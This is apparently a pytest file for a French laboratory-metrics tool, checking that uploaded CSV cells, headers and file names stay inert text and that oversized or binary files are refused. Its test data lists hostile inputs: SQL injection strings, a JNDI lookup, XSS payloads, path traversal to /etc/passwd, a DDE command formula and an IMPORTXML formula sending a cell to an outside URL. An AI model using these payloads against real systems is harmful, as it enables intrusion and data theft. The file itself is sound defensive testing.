"""Files made to hurt: each is refused in words or read as text; nothing is written unasked, nothing executed."""

import contextlib
import csv
import io
import json
import subprocess
import sys

import openpyxl
import pytest
from click.testing import CliRunner

from entrelabs_metrics.__main__ import main
from entrelabs_metrics.errors import Refusal
from entrelabs_metrics.exports import tables as exports
from entrelabs_metrics.intake import sheet as sheets
from entrelabs_metrics.language import language
from entrelabs_metrics.store import open_base
from entrelabs_metrics.store.importing import check_file, import_files

FRENCH = language("fr")
LABS = "lab_id;name;organisation;organisation_type;note"
MEASURES = "lab_id;indicator_id;measured_on;value;sample_size;source"

# What a cell, a header or a file name may hold: shown as it is, kept as it is.
TEXTS = [
    "'); drop table labs_log; --", "x' or '1'='1", '"; delete from labs_log; select "', "${jndi:ldap://example.org/a}",
    "<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "</td></tr></table><h1>", "&lt;b&gt; &amp; &#x3c;",
    "![](http://example.org/pixel.png)", "[clic](javascript:alert(1))", "<http://example.org>", "**gras** _i_ `code`",
    ":red[rouge]", ":material/delete:", ":streamlit:", "$\\LaTeX$", "$$\\frac{1}{0}$$", "\\input{/etc/passwd}",
    "#include \"/etc/passwd\"", "{0} {value} %s %(x)s %{x}", "{{7*7}}", "../../../etc/passwd", "C:\\Windows\\x",
    "\u202etxt.exe\u202c", "\u200fعربي\u200f", "a\u0301\u0301\u0301", "👩‍👩‍👧‍👦", "\ufdd0\ufffe", "a\u2028b\u2029c",
    "null", "Nil", "NaN", "undefined", "true", "\\N", "\\x00", "%00", "\x1b[31mrouge\x1b[0m", "a\x07b",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://example.org\",\"clic\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "-cmd", "@SUM(1)",
    "＝1+1", "＋1", "－1", "＠a", "'=1", "''=1", "=\"a;b\"", "=1;=2", "=1,=2", "=1\n=2", "DDE(\"cmd\")", "=",
    "=IMPORTXML(CONCAT(\"http://example.org/?\",A1),\"//a\")",
]  # fmt: skip


def line(*cells: str) -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\n").writerow(cells)
    return out.getvalue()


def tables_of(base):
    return {name: n for name, n in base.counts().items() if n}


# Texts


def test_texts_are_kept_as_they_are_and_go_out_and_back_the_same(base, put):
    """Through the base, every export and back; in a spreadsheet each is a text."""
    texts = TEXTS + FORMULAS
    put(base, f"{LABS}\n" + "".join(line(f"l{i:03}", text, text, "city", text) for i, text in enumerate(texts)))
    # An apostrophe before a formula is the guard of spreadsheets, ours to take away: see `spelling`.
    kept = [text[1:] if text in ("'=1", "''=1") else text for text in texts]
    found = base.rows("select name, organisation, note from labs order by lab_id")
    assert found == [dict.fromkeys(("name", "organisation", "note"), text) for text in kept]
    for form in ("csv", "bundle"):
        with base.reading() as cursor:
            files = exports.export(cursor, form, FRENCH)
        (written,) = (content for name, content in files.items() if name.endswith("labs.csv"))
        for row in csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""), delimiter=";"):
            assert not [
                cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))
            ]
        done = import_files(base, [("labs.csv", written)])
        assert [(c.added, c.updated, c.unchanged) for c in done.changes] == [(0, 0, len(texts))]


@pytest.mark.parametrize("text", TEXTS + FORMULAS)
def test_a_header_is_only_a_name(text, world):
    content = line(*LABS.split(";"), text) + line("a", "A", "O", "city", "n", "x")
    found = check_file(world, content.encode(), "x.csv")
    assert [(p.rule, (p.header or "").strip()) for p in found.problems] == [("unknown_column", text.strip())]
    assert found.rows.num_rows == 1


@pytest.mark.parametrize("text", TEXTS + FORMULAS)
def test_what_cannot_be_typed_is_said_with_its_text(text, world):
    content = line(*MEASURES.split(";")) + line(text, "U6", text, text, text, "x")
    found = check_file(world, content.encode(), "x.csv")
    assert found.rows.num_rows == 0
    assert {p.field for p in found.problems} >= {"lab_id", "measured_on", "value", "sample_size"}


NAMES = [*TEXTS, *FORMULAS, "x" * 5000 + ".csv", "", ".", "..", "/etc/passwd", "CON", "a\nb.csv", "\u202evsc.exe"]


def test_a_file_name_is_only_a_text(base, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for i, name in enumerate(NAMES):
        import_files(base, [(name, f"{LABS}\nl{i};A;O;city;n\n".encode())])
    assert ["".join(upload.files) for upload in base.history()] == NAMES
    assert list(tmp_path.iterdir()) == []


def test_no_workbook_of_ours_has_a_formula_or_a_link():
    from entrelabs_metrics.schema import tables

    for t in tables().values():
        book = openpyxl.load_workbook(io.BytesIO(exports.template_xlsx(t, FRENCH)))
        for cell in (cell for sheet in book for row in sheet.iter_rows() for cell in row):
            assert cell.data_type != "f", cell.coordinate
            assert cell.hyperlink is None


def test_the_command_line_says_hostile_texts_and_does_nothing(tmp_path):
    """As JSON each text is whole; in words, no control character reaches the terminal."""
    path, database = tmp_path / "x.csv", tmp_path / "b.duckdb"
    path.write_text(line(*MEASURES.split(";")) + "".join(line(t, "U6", "2026-01-01", "1", "", t) for t in TEXTS))
    told = CliRunner().invoke(main, ["--database", str(database), "check", str(path), "--json"])
    assert told.exit_code == 1
    assert [p["value"] for p in json.loads(told.stdout)["problems"] if p["rule"] == "unknown_parent"]
    assert not database.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.csv"]


# Bytes


@pytest.mark.parametrize(
    "content",
    [b"\x1f\x8b\x08\0gzip" * 9, b"\x7fELF\x02\x01\x01\0" * 9, b"SQLite format 3\0" * 9, b"\0" * 99, b"\xff" * 99,
     b"RIFF\0\0\0\0WEBP", b"GIF89a\x01\0\x01\0", b"{\\rtf1\\ansi}", b"7z\xbc\xaf\x27\x1c", b"\xef\xbb\xbf" * 2,
     b"\r" * 99, b'"' * 99, b";" * 99, b"\xfe\xff", b"\xff\xfe\0", b"<html><body><table><tr><td>1</td></tr></table>",
     b"%PDF-1.7\n" + b";" * 99, b"-- select 1;\n", b"\x00a\x00;\x00b\n", bytes(range(256)) * 4],
)  # fmt: skip
def test_bytes_that_are_no_table_are_refused_in_words(content, world):
    with pytest.raises(Refusal) as refused:
        check_file(world, content, "x.csv")
    assert len(str(refused.value)) > 20
    assert "{" not in str(refused.value)


# Numbers


@pytest.mark.parametrize(
    ("text", "value"),
    [("1e308", None), ("1e-400", None), ("1e309", None), ("NaN", None), ("inf", None), ("-inf", None), ("0x1F", None),
     ("12 345 678 901 234 567 890", None), ("1.234.567", None), ("12,7 agents", None), ("n.d.", None),
     ("env. 10", None),
     ("1_000", None), ("٣", 3.0), ("１２", 12.0), ("½", None), ("12²", None), ("--5", None), ("1,2,3", None),
     ("9" * 400, None), ("0," + "0" * 400 + "1", 0.0), ("−5", None), ("-0", 0.0), ("0", 0.0), ("12,5", 12.5),
     ("1 e 3", None), ("12.5.", None), ("+5", 5.0)],
)  # fmt: skip
def test_a_number_is_read_rightly_or_said_to_be_wrong(text, value, world):
    """In a percentage, where the scale is 0 to 100; a tiny number may only become zero."""
    found = check_file(world, f"{MEASURES}\npaca;U6;30/06/2026;{text};200;x\n".encode(), "x.csv")
    values = found.rows.column("value").to_pylist()
    if value is None:
        assert values == []
        assert [p.field for p in found.problems if p.refuses] == ["value"]
    else:
        assert values == [value]


# Sizes: each in a process of its own, which says how much memory it took at most

CHECKING = """
import sys
from entrelabs_metrics.errors import Refusal
from entrelabs_metrics.store import open_base
from entrelabs_metrics.store.importing import check_file, initialise
HEAD = b"lab_id;indicator_id;measured_on;value;sample_size;source\\n"
base = open_base(":memory:")
if "paca" in sys.argv[1]:
    initialise(base, "seed")
content = eval(sys.argv[1])
try:
    verdict = check_file(base, content, "x.csv")
    said = f"{verdict.read} read, {verdict.rows.num_rows} sound, {len(verdict.problems)} problems"
except Refusal as refusal:
    said = str(refusal)
peak = next(line for line in open("/proc/self/status") if line.startswith("VmHWM")).split()[1]
print(int(peak) // 1024, said)
"""


@pytest.mark.parametrize(
    ("made", "words", "megabytes"),
    [("b'a;b;' * 25_000_000", "4000001 colonnes", 700),
     ("b'x' * 100_000_000", "À la ligne 1 commence une cellule de plus de 131072", 700),
     ("b'\"' + b'x' * 100_000_000", "À la ligne 1 commence une cellule", 700),
     ("HEAD + b'x' * 100_000_000", "À la ligne 2 commence une cellule", 700),
     ("HEAD + b'lille;U6;2026-06-30;74;200;\"' + b'y' * 50_000_000 + b'\"'", "À la ligne 2 commence une cellule", 600),
     ("b';'.join(b'c%d' % i for i in range(1_000_000)) + b'\\n' + b';' * 1_000_000", "1000000 colonnes", 600),
     ("HEAD + b'\\n' * 50_000_000", "Le fichier a 50000001 lignes", 500),
     ("HEAD + b'\\r' * 50_000_000", "Le fichier a 50000000 lignes", 500),
     ("HEAD + b'lille;U6\\n' * 20_000_000", "Le fichier a 20000001 lignes", 700),
     ("b'\\0' * 50_000_000", "pas du texte", 500),
     ("HEAD + b'\\xff' * 50_000_000", "cellule de plus de", 900),
     ("b'x' * 201 * 2**20", "Le fichier dépasse 200 Mo", 600),
     ("HEAD + b'paca;U6;hier;beaucoup;200;x\\n' * 500_000", "500000 read, 0 sound, 1000000 problems", 1_200)],
    ids=lambda value: str(value)[:40],
)  # fmt: skip
def test_what_is_too_large_is_refused_or_read_within_bounds(made, words, megabytes):
    done = subprocess.run([sys.executable, "-c", CHECKING, made], capture_output=True, text=True, check=True)
    peak, said = done.stdout.split(" ", 1)
    assert words in said
    assert int(peak) < megabytes


def test_limits_of_a_file_are_settings(monkeypatch):
    monkeypatch.setenv("ENTRELABS_MAX_CELL_CHARACTERS", "100")
    with pytest.raises(Refusal, match="plus de 100 caractères"):
        sheets.read(f"{LABS}\na;A;O;city;{'x' * 101}\n".encode())
    monkeypatch.setenv("ENTRELABS_MAX_ROWS", "2")
    with pytest.raises(Refusal, match="3 lignes, et nous en lisons 2"):
        sheets.read(f"{LABS}\na;A;O;city;x\nb;B;O;city;x\n".encode())
    monkeypatch.setenv("ENTRELABS_MAX_FILE_MB", "1")
    with pytest.raises(Refusal, match="dépasse 1 Mo"):
        sheets.read(b"x" * (2**20 + 1))


# The same file


def test_the_same_file_twice_in_one_import_counts_once(base):
    file = f"{LABS}\na;A;O;city;x\nb;B;O;city;y\n".encode()
    done = import_files(base, [("un.csv", file), ("deux.csv", file)])
    assert [(c.added, c.updated, c.unchanged) for c in done.changes] == [(2, 0, 0), (0, 0, 2)]
    assert import_files(base, [("trois.csv", file)]).version == done.version == base.version


def test_a_refused_file_writes_nothing(world, tmp_path):
    database = tmp_path / "b.duckdb"
    base = open_base(str(database))
    for content in (b"", b"\0" * 99, f"{MEASURES}\nnulle-part;U6;hier;x;0;\n".encode()):
        with contextlib.suppress(Refusal):
            assert import_files(base, [("x.csv", content)]).version == 0
    assert (base.version, tables_of(base)) == (0, {})
    base.close()
